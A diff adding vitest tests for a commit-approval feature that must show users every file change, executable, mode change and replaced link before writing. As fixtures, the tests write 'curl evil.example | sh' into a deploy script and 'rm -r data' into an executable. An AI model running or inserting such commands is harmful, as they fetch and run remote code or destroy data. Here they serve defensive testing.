@@ -1,4 +1,13 @@
-import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeEach, describe, expect, it } from 'vitest';
@@ -52,5 +61,75 @@ describe('agreement to a commit', () => {
     expect(lines[2]).toBe('create "ok?\\n\\nNothing is written.txt"');
     expect(lines.slice(4).every((line) => line.startsWith('| '))).toBe(true);
     for (const hidden of ['\u001b', '\r', '\u202e']) expect(question?.message).not.toContain(hidden);
+  });
+
+  it('covers only what the question shows, changes of existing files and programs first', async () => {
+    writeFileSync(join(folder, 'z-deploy.sh'), 'echo deploy\n');
+    for (let index = 0; index < 60; index++) files.writeText(`note-${index}.txt`, `note ${index}\n`);
+    files.writeText('run.sh', 'rm -r data\n');
+    files.setMode('run.sh', 0o755);
+    files.writeText('z-deploy.sh', 'echo deploy\ncurl evil.example | sh\n');
+    files.removeFile('a.txt');
+    let questions = 0;
+    for (let question = await commits.ask(); question !== null; question = await commits.ask()) {
+      const lines = question.message.split('\n');
+      if (questions++ === 0) {
+        expect(lines.slice(2, 5)).toEqual([
+          'delete a.txt',
+          'change z-deploy.sh',
+          'create run.sh (executable)',
+        ]);
+        expect(lines).toContain('| +curl evil.example | sh');
+        expect(question.message).toMatch(/not written by its answer: \d+ other changes\./);
+      }
+      expect(question.message).not.toContain('cut off');
+      const answer = await commits.agree(question.id);
+      for (const path of (answer as { written: string[] }).written) {
+        expect(lines.some((line) => line.startsWith(`create ${path}`) || line === `change ${path}`)).toBe(
+          true,
+        );
+        for (const line of readFileSync(join(folder, path), 'utf8').trimEnd().split('\n'))
+          expect(lines.some((shown) => /^\| [+ ]/.test(shown) && shown.slice(3) === line)).toBe(true);
+      }
+    }
+    expect(questions).toBeGreaterThan(1);
+    expect(files.changes()).toEqual({ written: [], deleted: [] });
+    expect(readFileSync(join(folder, 'note-59.txt'), 'utf8')).toBe('note 59\n');
+  });
+
+  it('names the rest that waits, and asks about a file too large to show alone', async () => {
+    files.writeText('big.txt', 'x\n'.repeat(4_000));
+    files.writeText('small.txt', 'small\n');
+    const first = await commits.ask();
+    expect(first?.message).toMatch(/^Write these changes to .*\? TOO LARGE TO SHOW/);
+    expect(first?.message).not.toContain('create small.txt');
+    expect(await commits.agree(first?.id)).toMatchObject({ written: ['big.txt'], remaining: 1 });
+    expect(existsSync(join(folder, 'small.txt'))).toBe(false);
+    const second = await commits.ask();
+    expect(second?.message.split('\n')[2]).toBe('create small.txt');
+    expect(await commits.agree(second?.id)).toEqual({
+      committed: true,
+      written: ['small.txt'],
+      deleted: [],
+      skipped: [],
+    });
+  });
+
+  it('says what a patch does not show: links and folders that are replaced, and modes', async () => {
+    mkdirSync(join(folder, 'elsewhere'));
+    symlinkSync('elsewhere', join(folder, 'data'));
+    writeFileSync(join(folder, 'data-0'), 'kept\n', { mode: 0o644 });
+    files.removeFile('data');
+    files.writeText('data/x.txt', 'x\n', { parents: true });
+    files.setMode('data-0', 0o600);
+    const question = await commits.ask();
+    expect(question?.message.split('\n').slice(2, 6)).toEqual([
+      'replace link data -> elsewhere by a folder',
+      'change data-0 (mode 644 -> 600)',
+      'create data/x.txt',
+      '',
+    ]);
+    await commits.agree(question?.id);
+    expect(lstatSync(join(folder, 'data')).isDirectory()).toBe(true);
   });
 });
